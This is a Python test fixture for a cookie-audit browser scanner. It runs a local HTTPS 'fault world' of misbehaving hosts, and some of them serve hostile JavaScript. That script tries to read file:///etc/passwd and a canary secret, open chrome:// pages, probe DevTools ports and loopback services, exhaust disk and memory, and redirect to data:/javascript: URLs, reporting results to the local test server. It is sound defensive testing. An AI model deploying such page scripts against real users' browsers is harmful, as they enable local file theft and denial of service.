"""``FaultWorld``: a small, self-contained HTTPS world with one host per fault, for ``tests/test_faults.py``.

Like the demo world it is one aiohttp server on 127.0.0.1 in a background thread, reached by Chromium through
``--resolve HOST=127.0.0.1:PORT`` under real-looking names, with its own trustme CA. Unlike the demo world
every host here misbehaves in exactly one way (issue 7, the fault matrix):

====================================  ==========================================================================
host                                  fault
====================================  ==========================================================================
control.o3d-faults.nl                 none: the healthy control (own banner, a first-party and a third-party
                                      cookie, two pages)
refused.o3d-faults.nl                 mapped to a port where nothing listens (connection refused)
nodns.o3d-faults.nl                   not mapped at all (the scan's ``MAP * ~NOTFOUND`` → name not resolved)
expired.o3d-faults.nl                 served with a certificate that expired 30 days ago (picked by SNI)
wrongname.o3d-faults.nl               served with a certificate for other.o3d-faults.nl only (picked by SNI)
slow.o3d-faults.nl                    the first page never answers (the handler waits until the world stops)
error500.o3d-faults.nl                every page answers 500 Internal Server Error (with an HTML body)
loop.o3d-faults.nl                    ``/`` → ``/lus`` → ``/`` … (redirect loop)
elsewhere.o3d-faults.nl               every page redirects to another site, www.o3d-elsewhere.com (healthy)
nobanner.o3d-faults.nl                a normal page with no consent banner at all
brokencmp.o3d-faults.nl               the banner's script throws before it shows the (hidden) banner
popups.o3d-faults.nl                  alert + confirm on load, a download, ``window.open`` on load and on the
                                      consent click, a ``beforeunload`` trap
busyloop.o3d-faults.nl                ``while (true) {}`` shortly after load (the renderer never answers again)
cookiestorm.o3d-faults.nl             150 Set-Cookie headers, 3000 ``document.cookie`` writes, 2500
                                      localStorage keys and a 3-million-character localStorage value
challenge.o3d-faults.nl               every page is a bot-challenge interstitial (403, "Just a moment...", a
                                      challenge form) that still sets cookies and loads the tracker pixel
parked.o3d-faults.nl                  a parked domain ("Dit domein is te koop"), with the tracker pixel
gone.o3d-faults.nl                    a configured page (``/bestaat-niet``) answers 404; the others are healthy
discover.o3d-faults.nl                no ``pages`` configured: the home page links a product, a listing, the
                                      cart, the privacy page and also logout, checkout, a PDF, a language
                                      switch, mailto and another site, which must never be visited
====================================  ==========================================================================

Hostile pages (issue 16, ``HOSTILE_HOSTS``, audited from ``tests/data/expectations-hostile.yaml``): each tries to
leave the page and reports what it managed to the world's ``/report`` (``hostile_reports``):

====================================  ==========================================================================
localfile.o3d-faults.nl               ``file://`` navigations: top frame, iframe, ``window.open``, ``fetch`` and
                                      XHR of a world-readable canary file holding a secret
chromeurl.o3d-faults.nl               ``chrome://`` navigations (settings, version, sandbox): top frame, iframe,
                                      ``window.open``, ``fetch``
localports.o3d-faults.nl              requests to the DevTools ports (9222, 9229: ``/json/version``, WebSocket)
                                      and to other loopback ports: a plain HTTP "local service" of the world
                                      (``local_service_log``) by ``localhost``, ``127.0.0.1``, ``127.0.0.2``,
                                      ``0.0.0.0``, ``[::1]``, and the world's own HTTPS port by IP
hugedom.o3d-faults.nl                 builds a DOM of 300,000 elements and a 20-million-character text node
filldisk.o3d-faults.nl                20 downloads of 5 MB (server attachments and JS blobs), IndexedDB and
                                      Cache API writes of 8 MB blobs up to 96 MB, localStorage to its quota
unsafe-redirect.o3d-faults.nl         pages that redirect (302) to ``data:`` and ``javascript:`` URLs, and a
                                      script that sends the top frame to a ``data:`` URL
====================================  ==========================================================================

Every healthy-looking page sets a server cookie ``fw_sid`` and a script cookie ``fw_pref`` with random values
and loads a pixel script from the third party ``px.o3d-faults-cdn.net``, which sets its own ``fw_uid``
(SameSite=None), keeps an id ``fw_px`` in localStorage and copies ``fw_pref`` into the URL of its hit. Every value handed out is recorded in ``issued`` (host, name, value), and every request the
third party receives in ``tracker_log`` (referring host, the Cookie header it carried), so tests can prove
that no value of one domain's visit ever shows up in another's.

    with FaultWorld() as fw:
        fw.resolve_args(), fw.ca_pem, fw.port, fw.issued, fw.tracker_log
"""

from __future__ import annotations

import asyncio
import json
import secrets
import shutil
import socket
import ssl
import tempfile
import threading
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from html import escape
from pathlib import Path
from urllib.parse import quote, urlsplit

import trustme
from aiohttp import web

SUFFIX = "o3d-faults.nl"


def fault_host(name: str) -> str:
    return f"{name}.{SUFFIX}"


CONTROL = fault_host("control")
REFUSED = fault_host("refused")
NODNS = fault_host("nodns")
EXPIRED = fault_host("expired")
WRONGNAME = fault_host("wrongname")
SLOW = fault_host("slow")
ERROR500 = fault_host("error500")
LOOP = fault_host("loop")
ELSEWHERE = fault_host("elsewhere")
NOBANNER = fault_host("nobanner")
BROKENCMP = fault_host("brokencmp")
POPUPS = fault_host("popups")
BUSYLOOP = fault_host("busyloop")
COOKIESTORM = fault_host("cookiestorm")
CHALLENGE = fault_host("challenge")
PARKED = fault_host("parked")
GONE = fault_host("gone")
DISCOVER = fault_host("discover")

LOCALFILE = fault_host("localfile")
CHROMEURL = fault_host("chromeurl")
LOCALPORTS = fault_host("localports")
HUGEDOM = fault_host("hugedom")
FILLDISK = fault_host("filldisk")
UNSAFEREDIRECT = fault_host("unsafe-redirect")
HOSTILE_HOSTS: tuple[str, ...] = (LOCALFILE, CHROMEURL, LOCALPORTS, HUGEDOM, FILLDISK, UNSAFEREDIRECT)
HUGEDOM_ELEMENTS = 300_000
HUGEDOM_TEXT_CHARS = 20_000_000
FILLDISK_DOWNLOADS = 20            # half from the server, half JS blobs
FILLDISK_DOWNLOAD_BYTES = 5 * 2**20
FILLDISK_STORAGE_BYTES = 96 * 2**20
DEVTOOLS_PORTS = (9222, 9229)

OTHER_NAME = fault_host("other")                 # the only name on wrongname's certificate
ELSEWHERE_TARGET = "www.o3d-elsewhere.com"       # where elsewhere.o3d-faults.nl sends everyone
TRACKER = "px.o3d-faults-cdn.net"                # the third party on every healthy page

# what each fault host does, in the order of the expectations file (tests/data/expectations-faults.yaml)
FAULT_HOSTS: tuple[str, ...] = (CONTROL, REFUSED, NODNS, POPUPS, EXPIRED, WRONGNAME, SLOW, ERROR500, LOOP,
                                ELSEWHERE, NOBANNER, BROKENCMP, BUSYLOOP, COOKIESTORM, CHALLENGE, PARKED, GONE,
                                DISCOVER)
# answered by the server (the expired/wrong-name hosts too: their TLS handshake completes, the browser refuses it)
SERVED_HOSTS: tuple[str, ...] = (tuple(h for h in FAULT_HOSTS if h not in (REFUSED, NODNS)) + (ELSEWHERE_TARGET, TRACKER)
                                 + HOSTILE_HOSTS)

STORM_HEADER_COOKIES = 150
STORM_JS_COOKIES = 3000
STORM_STORAGE_KEYS = 2500
STORM_BIG_VALUE_CHARS = 3_000_000


@dataclass(frozen=True)
class Issued:
    host: str       # the host whose page (or, for the tracker, whose visit) the value belongs to
    name: str
    value: str


# --- pages --------------------------------------------------------------------------------------------------------
BANNER = """<div id="fw-banner" role="dialog" aria-label="Cookies" {hidden}
     style="position:fixed;left:0;right:0;bottom:0;padding:16px;background:#fff;border-top:2px solid #333">
  <p>Wij gebruiken cookies om onze winkel te laten werken en om te meten hoe hij gebruikt wordt.</p>
  <button type="button" id="fw-reject">Alles weigeren</button>
  <button type="button" id="fw-accept">Alles accepteren</button>
</div>"""

# the hand-made banner's script: stores {category: bool} as JSON in fw_consent (cookieaudit's generic adapter)
CONSENT_JS = """(function () {
  var banner = document.getElementById('fw-banner');
  function hide() { banner.hidden = true; banner.style.display = 'none'; }
  function store(all) {
    var v = {necessary: true, performance: all, functional: all, targeting: all};
    document.cookie = 'fw_consent=' + encodeURIComponent(JSON.stringify(v)) + '; Max-Age=15552000; Path=/; SameSite=Lax';
    hide();
    document.dispatchEvent(new CustomEvent('fw:consent', {detail: v}));
  }
  if (/(?:^|; )fw_consent=/.test(document.cookie)) { hide(); } else { banner.hidden = false; }
  document.getElementById('fw-accept').addEventListener('click', function () { store(true); });
  document.getElementById('fw-reject').addEventListener('click', function () { store(false); });
})();
"""

# brokencmp: the manager's bundle expects a global config that the integrator forgot; the banner stays hidden
BROKEN_CONSENT_JS = """(function () {
  var cfg = window.FaultCmpConfig;
  var categories = cfg.categories.map(function (c) { return c.id; });   // TypeError: cfg is undefined
  document.getElementById('fw-banner').hidden = false;
})();
"""

POPUPS_JS = """(function () {
  window.addEventListener('load', function () {
    window.open('/aanbieding', '_blank');                // no user gesture: normally blocked
    alert('Welkom! Vandaag 10% korting.');
    var ok = confirm('Wilt u onze nieuwsbrief ontvangen?');
    document.body.setAttribute('data-confirm', String(ok));
    var a = document.createElement('a');
    a.href = '/downloads/factuur.pdf'; a.download = 'factuur.pdf';
    document.body.appendChild(a); a.click();
  });
  // the consent click is a user gesture: this popup does open
  document.addEventListener('fw:consent', function () { window.open('/enquete', 'enquete', 'width=400,height=300'); });
  window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = ''; return ''; });
})();
"""

# the third party copies the first-party id into its hit (as trackers do) and keeps its own id in localStorage
PIXEL_JS = f"""/* fault world pixel */
window.fwPixel = true;
try {{ localStorage.setItem('fw_px', '__PX__'); }} catch (e) {{}}
(function () {{
  var m = document.cookie.match(/(?:^|; )fw_pref=([^;]*)/);
  new Image().src = 'https://{TRACKER}/hit?cid=' + encodeURIComponent(m ? m[1] : '') + '&dl=' + encodeURIComponent(location.href);
}})();
"""

BUSYLOOP_JS = """window.addEventListener('load', function () {
  setTimeout(function () { var n = 0; while (true) { n++; } }, 300);
});
"""


# --- hostile pages (issue 16): each reports what it managed to POST /report {what, result} ----------------------------
REPORT_JS = """function fwReport(what, result) {
  try { fetch('/report', {method: 'POST', body: JSON.stringify({what: what, result: String(result).slice(0, 300)}),
                          keepalive: true}); } catch (e) {}
}
"""


def escape_js(targets: list[str], what: str) -> str:
    """Try every way out of the page towards ``targets`` (file:// or chrome:// URLs) and report each outcome."""
    return REPORT_JS + f"""(function () {{
  var targets = {targets!r};
  targets.forEach(function (url, i) {{
    fetch(url).then(function (r) {{ return r.text(); }}).then(function (t) {{ fwReport('{what}-fetch-' + i, 'read: ' + t); }},
                                                         function (e) {{ fwReport('{what}-fetch-' + i, 'blocked: ' + e); }});
    try {{
      var x = new XMLHttpRequest(); x.open('GET', url);
      x.onload = function () {{ fwReport('{what}-xhr-' + i, 'read: ' + x.responseText); }};
      x.onerror = function () {{ fwReport('{what}-xhr-' + i, 'blocked: error'); }};
      x.send();
    }} catch (e) {{ fwReport('{what}-xhr-' + i, 'blocked: ' + e); }}
    var f = document.createElement('iframe'); f.src = url; f.style.display = 'none';
    f.onload = function () {{
      var t; try {{ t = 'read: ' + f.contentDocument.location.href + ' ' + f.contentDocument.body.innerText; }}
      catch (e) {{ t = 'blocked: ' + e.name; }}
      fwReport('{what}-iframe-' + i, t);
    }};
    document.body.appendChild(f);
  }});
  // with a user gesture (the consent click) a popup does open: towards the first target
  document.addEventListener('fw:consent', function () {{
    var w = window.open(targets[0], 'escape', 'width=400,height=300');
    fwReport('{what}-window.open', w ? 'opened' : 'blocked: null');
  }});
  // the top frame itself, after load
  window.addEventListener('load', function () {{
    setTimeout(function () {{
      try {{ location.href = targets[0]; }} catch (e) {{ fwReport('{what}-top', 'blocked: ' + e); }}
      setTimeout(function () {{ fwReport('{what}-top', 'blocked: still on ' + location.href); }}, 700);
    }}, 200);
  }});
}})();
"""


def localports_js(service_port: int, world_port: int) -> str:
    svc = service_port
    targets = [f"http://127.0.0.1:{p}/json/version" for p in DEVTOOLS_PORTS] + [
        f"http://localhost:{DEVTOOLS_PORTS[0]}/json/list",
        f"http://127.0.0.1:{svc}/probe?via=127.0.0.1", f"http://localhost:{svc}/probe?via=localhost",
        f"http://127.0.0.2:{svc}/probe?via=127.0.0.2", f"http://0.0.0.0:{svc}/probe?via=0.0.0.0",
        f"http://[::1]:{svc}/probe?via=ipv6", f"http://svc.localhost:{svc}/probe?via=sub.localhost",
        f"https://127.0.0.1:{world_port}/probe?via=world-ip"]
    sockets = [f"ws://127.0.0.1:{p}/devtools/browser" for p in DEVTOOLS_PORTS] + [
        f"ws://127.0.0.1:{svc}/ws?via=websocket", f"ws://localhost:{svc}/ws?via=websocket-localhost"]
    return REPORT_JS + f"""(function () {{
  {targets!r}.forEach(function (url, i) {{
    fetch(url, {{mode: 'no-cors'}}).then(function () {{ fwReport('port-fetch ' + url, 'reached'); }},
                                        function (e) {{ fwReport('port-fetch ' + url, 'blocked: ' + e); }});
    var img = new Image(); img.src = url + '&img=1';
  }});
  {sockets!r}.forEach(function (url) {{
    try {{
      var ws = new WebSocket(url);
      ws.onopen = function () {{ fwReport('port-ws ' + url, 'reached'); ws.send('{{"id":1,"method":"Browser.getVersion"}}'); }};
      ws.onerror = function () {{ fwReport('port-ws ' + url, 'blocked: error'); }};
    }} catch (e) {{ fwReport('port-ws ' + url, 'blocked: ' + e); }}
  }});
}})();
"""


HUGEDOM_JS = REPORT_JS + f"""window.addEventListener('load', function () {{
  setTimeout(function () {{
    var root = document.createElement('div'); root.id = 'huge';
    var frag = document.createDocumentFragment();
    for (var i = 0; i < {HUGEDOM_ELEMENTS}; i++) {{
      var d = document.createElement(i % 3 ? 'span' : 'div'); d.textContent = 'x' + i; frag.appendChild(d);
    }}
    root.appendChild(frag);
    var big = document.createElement('p'); big.textContent = 'y'.repeat({HUGEDOM_TEXT_CHARS}); root.appendChild(big);
    document.querySelector('main').appendChild(root);
    fwReport('hugedom', 'elements: ' + document.getElementsByTagName('*').length);
  }}, 100);
}});
"""

FILLDISK_JS = REPORT_JS + f"""window.addEventListener('load', function () {{
  var MB = 1 << 20, half = {FILLDISK_DOWNLOADS // 2};
  for (var i = 0; i < half; i++) {{       // attachments from the server
    var a = document.createElement('a'); a.href = '/big.bin?i=' + i; a.download = 'big' + i + '.bin';
    document.body.appendChild(a); a.click();
  }}
  for (var j = 0; j < half; j++) {{       // blobs made here
    var b = new Blob([new Uint8Array({FILLDISK_DOWNLOAD_BYTES})], {{type: 'application/octet-stream'}});
    var a2 = document.createElement('a'); a2.href = URL.createObjectURL(b); a2.download = 'blob' + j + '.bin';
    document.body.appendChild(a2); a2.click();
  }}
  var total = {FILLDISK_STORAGE_BYTES}, chunk = 8 * MB;
  var req = indexedDB.open('filldisk', 1);
  req.onupgradeneeded = function () {{ req.result.createObjectStore('b'); }};
  req.onerror = function () {{ fwReport('indexeddb', 'blocked: ' + (req.error && req.error.name)); }};
  req.onsuccess = function () {{
    var db = req.result, n = 0, written = 0;
    (function next() {{
      if (written >= total) {{ fwReport('indexeddb', 'wrote ' + written); return; }}
      var tx = db.transaction('b', 'readwrite');
      tx.objectStore('b').put(new Blob([new Uint8Array(chunk)]), 'k' + n++);
      tx.oncomplete = function () {{ written += chunk; next(); }};
      tx.onabort = function () {{ fwReport('indexeddb', 'stopped after ' + written + ': ' + (tx.error && tx.error.name)); }};
    }})();
  }};
  if (window.caches) {{
    caches.open('filldisk').then(async function (c) {{
      var w = 0;
      try {{ for (var k = 0; k < 4; k++) {{ await c.put('/c' + k, new Response(new Uint8Array(chunk))); w += chunk; }}
             fwReport('cache', 'wrote ' + w); }}
      catch (e) {{ fwReport('cache', 'stopped after ' + w + ': ' + e.name); }}
    }}, function (e) {{ fwReport('cache', 'blocked: ' + e.name); }});
  }}
  try {{ var s1 = 'z'.repeat(MB); for (var m = 0; m < 20; m++) localStorage.setItem('fill' + m, s1);
         fwReport('localstorage', 'wrote 20 M characters'); }}
  catch (e) {{ fwReport('localstorage', 'quota: ' + e.name); }}
  if (navigator.storage && navigator.storage.estimate) {{
    navigator.storage.estimate().then(function (e) {{ fwReport('estimate', 'quota ' + e.quota + ' usage ' + e.usage); }});
  }}
}});
"""

UNSAFE_DATA_PAGE = "<h1>data</h1><script>fetch('https://{host}/report?what=data-page&result=executed', {{mode: 'no-cors'}})</script>"

UNSAFE_TOP_JS = REPORT_JS + """window.addEventListener('load', function () {
  setTimeout(function () {
    try { location.href = 'data:text/html,' + encodeURIComponent(DATA_PAGE); } catch (e) { fwReport('top-data', 'blocked: ' + e); }
    setTimeout(function () { fwReport('top-data', 'blocked: still on ' + location.href); }, 700);
  }, 200);
});
"""


def storm_js(token: str) -> str:
    return f"""(function () {{
  for (var i = 0; i < {STORM_JS_COOKIES}; i++) {{
    document.cookie = 'storm_js' + i + '={token}' + i + '; Max-Age=86400; Path=/; SameSite=Lax';
  }}
  try {{ for (var k = 0; k < {STORM_STORAGE_KEYS}; k++) {{ localStorage.setItem('storm_key' + k, 'v' + k); }} }} catch (e) {{}}
  try {{ localStorage.setItem('storm_big', 'x'.repeat({STORM_BIG_VALUE_CHARS})); }} catch (e) {{ document.title += ' (quota)'; }}
}})();
"""


def page_html(host: str, title: str, js_token: str, *, banner: str = "shown", extra_script: str = "",
              consent_script: str = "/consent.js", links: str = "") -> str:
    """A plain shop page: content, a second page link, the banner (shown/hidden/none) and the tracker pixel."""
    banner_html = "" if banner == "none" else BANNER.format(hidden="hidden")
    consent = "" if banner == "none" else f'<script src="{consent_script}"></script>'
    return f"""<!doctype html>
<html lang="nl"><head><meta charset="utf-8"><title>{escape(title)}</title></head>
<body>
<main>
  <h1>{escape(title)}</h1>
  <p>Dit is {escape(host)}, een winkel van de fault world. Bekijk ook <a href="/over-ons">over ons</a>.</p>
</main>
{links}
{banner_html}
{consent}
<script>document.cookie = 'fw_pref={js_token}; Max-Age=86400; Path=/; SameSite=Lax';</script>
<script src="https://{TRACKER}/p.js" async></script>
{f"<script>{extra_script}</script>" if extra_script else ""}
</body></html>"""


CHALLENGE_HTML = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Just a moment...</title></head>
<body>
<div class="main-wrapper" role="main">
  <h1>{host}</h1>
  <p>Checking your browser before accessing {host}. This process is automatic.</p>
  <form id="challenge-form" action="/?__cf_chl_f_tk=fw" method="POST"><input type="hidden" name="md" value="x"></form>
</div>
<script>document.cookie = 'fw_pref={token}; Max-Age=86400; Path=/; SameSite=Lax';</script>
<script src="https://{tracker}/p.js" async></script>
</body></html>"""

PARKED_HTML = """<!doctype html>
<html lang="nl"><head><meta charset="utf-8"><title>{host}</title></head>
<body>
<h1>{host}</h1>
<p>Dit domein is te koop! Deze domeinnaam is te koop via onze veiling. Doe een bod.</p>
<script>document.cookie = 'fw_pref={token}; Max-Age=86400; Path=/; SameSite=Lax';</script>
<script src="https://{tracker}/p.js" async></script>
</body></html>"""

# the discover host's links: what discovery must choose, and what it must never follow
DISCOVER_CHOSEN = ("/", "/artikel/rode-pla-1234", "/assortiment", "/mandje", "/privacyverklaring")
DISCOVER_NEVER = ("/account/uitloggen", "/afrekenen", "/folder.pdf", "/en/", "/mandje?add-to-cart=1234")
DISCOVER_LINKS = f"""<header><nav>
  <a href="/">Home</a> <a href="/assortiment">Assortiment</a> <a href="/mandje">Mandje (0)</a>
  <a href="/account/uitloggen">Uitloggen</a> <a href="/afrekenen">Afrekenen</a>
  <a href="/en/" hreflang="en">English</a> <a href="#">Menu</a>
</nav></header>
<section><article class="product-card"><a href="/artikel/rode-pla-1234">Rode PLA</a>
  <a href="/mandje?add-to-cart=1234">In mandje</a></article>
  <a href="/folder.pdf">Folder</a></section>
<footer><a href="/privacyverklaring">Privacyverklaring</a> <a href="mailto:info@{fault_host('discover')}">Mail</a>
  <a href="https://{ELSEWHERE_TARGET}/partner">Partner</a> <a href="javascript:void(0)">Chat</a></footer>"""


class FaultWorld:
    """The fault world; use ``with FaultWorld() as fw`` (a daemon thread runs the server)."""

    def __init__(self, bind_host: str = "127.0.0.1"):
        self.bind_host = bind_host
        self.port: int | None = None
        self.refused_port: int | None = None
        self.ca_pem: Path | None = None
        self.issued: list[Issued] = []
        self.tracker_log: list[tuple[str, str]] = []      # (referring host, Cookie header received)
        self.requests_log: list[tuple[str, str, str]] = []  # (host, method, path)
        self.hostile_reports: list[tuple[str, str, str]] = []   # (host, what, result) as the hostile pages saw it
        self.local_service_log: list[tuple[str, str]] = []      # (Host header, path) the "local service" received
        self.local_service_port: int | None = None
        self.canary_path: Path | None = None                    # world-readable file a page must not read
        self.canary_secret = secrets.token_hex(16)
        self._canary_dir: str | None = None
        self._service_runner: web.AppRunner | None = None
        self._tempdir: str | None = None
        self._refused_sock: socket.socket | None = None
        self._stopping: asyncio.Event | None = None
        self._runner: web.AppRunner | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None

    # --- what a scan needs --------------------------------------------------------------------------------------
    def resolve_args(self) -> list[str]:
        """``--resolve`` entries: every served host → the server, refused → a closed port; nodns → nothing."""
        assert self.port is not None, "start the fault world first"
        args = [f"{h}={self.bind_host}:{self.port}" for h in SERVED_HOSTS]
        args.append(f"{REFUSED}={self.bind_host}:{self.refused_port}")
        return args

    def issued_for(self, host: str) -> list[Issued]:
        return [i for i in self.issued if i.host == host]

    # --- TLS ------------------------------------------------------------------------------------------------------
    def _tls(self) -> ssl.SSLContext:
        ca = trustme.CA(organization_name="cookieaudit fault world CA")
        good = ca.issue_cert(*[h for h in SERVED_HOSTS if h not in (EXPIRED, WRONGNAME)], "localhost",
                             organization_name="cookieaudit fault world")
        now = datetime.now(timezone.utc)
        expired = ca.issue_cert(EXPIRED, organization_name="cookieaudit fault world (expired)",
                                not_before=now - timedelta(days=400), not_after=now - timedelta(days=30))
        wrong = ca.issue_cert(OTHER_NAME, organization_name="cookieaudit fault world (other name)")
        self._tempdir = tempfile.mkdtemp(prefix="cookieaudit-faultworld-")
        self.ca_pem = Path(self._tempdir) / "ca.pem"
        ca.cert_pem.write_to_path(str(self.ca_pem))

        def ctx_for(leaf: trustme.LeafCert) -> ssl.SSLContext:
            ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
            leaf.configure_cert(ctx)
            return ctx

        by_name = {EXPIRED: ctx_for(expired), WRONGNAME: ctx_for(wrong)}
        default = ctx_for(good)

        def pick(sslobj, server_name, _ctx):   # SNI: the expired / wrong-name hosts get their own certificate
            if server_name in by_name:
                sslobj.context = by_name[server_name]
            return None

        default.sni_callback = pick
        return default

    # --- lifecycle ------------------------------------------------------------------------------------------------
    async def start_async(self) -> "FaultWorld":
        self._stopping = asyncio.Event()
        ssl_ctx = self._tls()
        # bound but never listening: connecting gets an immediate RST (connection refused), and the port stays ours
        self._refused_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._refused_sock.bind((self.bind_host, 0))
        self.refused_port = self._refused_sock.getsockname()[1]
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._dispatch)
        self._runner = web.AppRunner(app, access_log=None, handle_signals=False, shutdown_timeout=1.0)
        await self._runner.setup()
        site = web.TCPSite(self._runner, self.bind_host, 0, ssl_context=ssl_ctx)
        await site.start()
        self.port = self._runner.addresses[0][1]
        # a service on another loopback port (plain HTTP, as local dev servers and agents are): pages must not reach it
        svc = web.Application()
        svc.router.add_route("*", "/{tail:.*}", self._local_service)
        self._service_runner = web.AppRunner(svc, access_log=None, handle_signals=False, shutdown_timeout=1.0)
        await self._service_runner.setup()
        await web.TCPSite(self._service_runner, self.bind_host, 0).start()
        self.local_service_port = self._service_runner.addresses[0][1]
        # a world-readable canary file (0644 in a 0755 folder): only the browser's own rules keep a page from it
        self._canary_dir = tempfile.mkdtemp(prefix="cookieaudit-canary-")
        Path(self._canary_dir).chmod(0o755)
        self.canary_path = Path(self._canary_dir) / "secret.txt"
        self.canary_path.write_text(f"canary {self.canary_secret}\n")
        self.canary_path.chmod(0o644)
        return self

    async def stop_async(self) -> None:
        if self._stopping is not None:
            self._stopping.set()
        if self._runner is not None:
            await self._runner.cleanup()
            self._runner = None
        if self._service_runner is not None:
            await self._service_runner.cleanup()
            self._service_runner = None
        if self._canary_dir:
            shutil.rmtree(self._canary_dir, ignore_errors=True)
            self._canary_dir = None
        if self._refused_sock is not None:
            self._refused_sock.close()
            self._refused_sock = None
        if self._tempdir:
            shutil.rmtree(self._tempdir, ignore_errors=True)
            self._tempdir = None

    def start(self) -> "FaultWorld":
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="cookieaudit-fault-world", daemon=True)
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self.start_async(), self._loop).result(timeout=30)
        return self

    def stop(self) -> None:
        if self._loop is None:
            return
        asyncio.run_coroutine_threadsafe(self.stop_async(), self._loop).result(timeout=30)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)
        self._loop.close()
        self._loop = self._thread = None

    def __enter__(self) -> "FaultWorld":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    # --- HTTP -----------------------------------------------------------------------------------------------------
    def _token(self, host: str, name: str) -> str:
        value = secrets.token_hex(12)
        self.issued.append(Issued(host, name, value))
        return value

    def _page(self, host: str, title: str, status: int = 200, **kw) -> web.Response:
        sid = self._token(host, "fw_sid")
        pref = self._token(host, "fw_pref")
        resp = web.Response(text=page_html(host, title, pref, **kw), status=status, content_type="text/html",
                            headers={"Cache-Control": "no-cache"})
        resp.set_cookie("fw_sid", sid, path="/", httponly=True, secure=True, samesite="Lax")
        return resp

    async def _dispatch(self, request: web.Request) -> web.StreamResponse:
        host = (request.host or "").rsplit(":", 1)[0].lower()
        path = request.path
        self.requests_log.append((host, request.method, path))
        if path == "/favicon.ico":
            return web.Response(status=204)
        if host == TRACKER:
            return self._tracker(request)
        if path == "/report" and host in HOSTILE_HOSTS:
            return await self._report(host, request)
        if path == "/probe" or host not in SERVED_HOSTS:      # reached by IP (127.0.0.1:PORT) or an unknown name
            self.local_service_log.append((request.host or "", request.path_qs))
            return web.Response(text="the world's port, reached directly", status=200)
        if path == "/consent.js":
            js = BROKEN_CONSENT_JS if host == BROKENCMP else CONSENT_JS
            return web.Response(text=js, content_type="application/javascript")
        if host in HOSTILE_HOSTS:
            return self._hostile(host, path)
        if host == SLOW:
            await self._stopping.wait()     # never answers while the world runs
            return web.Response(status=503)
        if host == LOOP:
            raise web.HTTPFound("/lus" if path != "/lus" else "/")
        if host == ELSEWHERE:
            raise web.HTTPFound(f"https://{ELSEWHERE_TARGET}/welkom")
        if host == ERROR500:
            return self._page(host, "500 Internal Server Error", status=500, banner="none")
        if host == POPUPS and path == "/downloads/factuur.pdf":
            return web.Response(body=b"%PDF-1.4\n% fault world invoice\n", content_type="application/pdf",
                                headers={"Content-Disposition": 'attachment; filename="factuur.pdf"'})
        if host == POPUPS:
            return self._page(host, "Popups", extra_script=POPUPS_JS if path == "/" else "")
        if host == BUSYLOOP:
            return self._page(host, "Busy loop", extra_script=BUSYLOOP_JS)
        if host == NOBANNER:
            return self._page(host, "Geen banner", banner="none")
        if host == BROKENCMP:
            return self._page(host, "Kapotte banner")
        if host == COOKIESTORM:
            resp = self._page(host, "Cookie storm", extra_script=storm_js(self._token(host, "storm_js")))
            token = self._token(host, "storm")
            for i in range(STORM_HEADER_COOKIES):
                resp.headers.add("Set-Cookie", f"storm{i}={token}{i}; Path=/; Secure; SameSite=Lax")
            return resp
        if host in (CHALLENGE, PARKED):
            html = CHALLENGE_HTML if host == CHALLENGE else PARKED_HTML
            resp = web.Response(text=html.format(host=host, token=self._token(host, "fw_pref"), tracker=TRACKER),
                                status=403 if host == CHALLENGE else 200, content_type="text/html",
                                headers={"Cache-Control": "no-cache"})
            resp.set_cookie("fw_sid", self._token(host, "fw_sid"), path="/", httponly=True, secure=True, samesite="Lax")
            return resp
        if host == GONE and path == "/bestaat-niet":
            return self._page(host, "Pagina niet gevonden", status=404)
        if host == DISCOVER:
            if path in DISCOVER_NEVER or path == "/folder.pdf":
                return web.Response(text="must never be visited", status=410)
            return self._page(host, "Welkom" if path == "/" else path.strip("/"),
                              links=DISCOVER_LINKS if path == "/" else "")
        if host in (CONTROL, ELSEWHERE_TARGET, EXPIRED, WRONGNAME, GONE):
            return self._page(host, "Over ons" if path == "/over-ons" else "Welkom")
        raise web.HTTPNotFound(text=f"unknown host {host!r}")

    async def _report(self, host: str, request: web.Request) -> web.Response:
        if request.method == "POST":
            try:
                data = json.loads(await request.text())
            except ValueError:
                data = {"what": "unparsed", "result": (await request.text())[:300]}
        else:
            data = dict(request.query)
        self.hostile_reports.append((host, str(data.get("what")), str(data.get("result"))))
        return web.Response(status=204, headers={"Access-Control-Allow-Origin": "*"})

    async def _local_service(self, request: web.Request) -> web.Response:
        self.local_service_log.append((request.host or "", request.path_qs))
        return web.Response(text='{"Browser": "local service"}', content_type="application/json",
                            headers={"Access-Control-Allow-Origin": "*"})

    def _hostile(self, host: str, path: str) -> web.StreamResponse:
        if host == LOCALFILE:
            assert self.canary_path is not None
            return self._page(host, "Lokale bestanden", extra_script=escape_js(
                [self.canary_path.as_uri(), "file:///etc/passwd", "file:///"], "file"))
        if host == CHROMEURL:
            return self._page(host, "Browserpagina's", extra_script=escape_js(
                ["chrome://settings/", "chrome://version/", "chrome://sandbox/"], "chrome"))
        if host == LOCALPORTS:
            assert self.local_service_port is not None and self.port is not None
            return self._page(host, "Lokale poorten", extra_script=localports_js(self.local_service_port, self.port))
        if host == HUGEDOM:
            return self._page(host, "Enorme pagina", extra_script=HUGEDOM_JS)
        if host == FILLDISK and path == "/big.bin":
            return web.Response(body=bytes(FILLDISK_DOWNLOAD_BYTES), content_type="application/octet-stream",
                                headers={"Content-Disposition": 'attachment; filename="big.bin"'})
        if host == FILLDISK:
            return self._page(host, "Schijf vol", extra_script=FILLDISK_JS if path == "/" else "")
        if host == UNSAFEREDIRECT and path == "/naar-data":
            raise web.HTTPFound("data:text/html," + quote(UNSAFE_DATA_PAGE.format(host=host)))
        if host == UNSAFEREDIRECT and path == "/naar-javascript":
            raise web.HTTPFound(f"javascript:fetch('https://{host}/report?what=javascript-redirect&result=executed')")
        if host == UNSAFEREDIRECT:
            data_page = repr(UNSAFE_DATA_PAGE.format(host=host)).replace("</", "<\\/")   # not inside <script>
            script = UNSAFE_TOP_JS.replace("DATA_PAGE", data_page) if path == "/" else ""
